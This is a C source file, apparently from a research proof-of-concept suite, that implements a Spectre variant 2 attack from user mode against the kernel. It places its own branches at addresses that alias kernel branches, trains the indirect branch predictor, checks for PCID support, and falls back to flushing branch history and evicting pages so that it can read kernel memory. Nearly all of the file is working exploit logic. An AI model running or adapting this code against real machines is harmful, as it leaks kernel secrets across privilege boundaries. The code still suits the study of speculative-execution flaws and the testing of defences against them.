/*
 * Spectre, variant 2 (Kocher et al., 2019; Horn, 2018), from user mode to the kernel: a branch of the
 * attack's own, at an address that the target predictor does not tell from that of the kernel's,
 * trains it.
 */
#include "spectre-v2.h"

#include <cpuid.h>

static const uint8_t *branches[MOST_ADDRESSES];
static uint64_t disclosure;

/* Where the kernel does not see what histories user mode leaves, those of its own stay the same. */
static int forgets;

static void choose(uint64_t address)
{
	disclosure = address;
}

static int read_byte(uint64_t address)
{
	if (forgets)
		forget_histories();
	for (int i = 0; i < options.branches.count; i++)
		train(branches[i], disclosure);
	make_call_late();
	return call_with(address);
}

/*
 * Whether translations of several address spaces live side by side (PCID). Otherwise a kernel with page
 * tables of its own empties the translation buffers at each system call, and the last cache is too near
 * for the walks to the code, the secret and the probe.
 */
static int keeps_translations(void)
{
	enum { PROCESSOR_INFORMATION = 1, PCID = 1 << 17 };
	unsigned int eax, ebx, ecx, edx;

	return __get_cpuid(PROCESSOR_INFORMATION, &eax, &ebx, &ecx, &edx) && ecx & PCID;
}

int main(int argc, char **argv)
{
	int known_was_read;

	parse_options(argc, argv);
	prepare_call();
	catch_faults();
	for (int i = 0; i < options.branches.count; i++)
		branches[i] = place_branch(options.branches.at[i], INDIRECT_JUMP);
	known_was_read = choose_disclosure(choose, read_byte, array + SHARED_KNOWN);
	if (!known_was_read) {
		forgets = 1;
		known_was_read = choose_disclosure(choose, read_byte, array + SHARED_KNOWN);
	}
	if (!known_was_read && !keeps_translations()) {
		pages_to_evict = prepare_far_eviction();
		known_was_read = choose_disclosure(choose, read_byte, array + SHARED_KNOWN);
	}
	recover(sample, patience_if(known_was_read), 1);
	return 0;
}
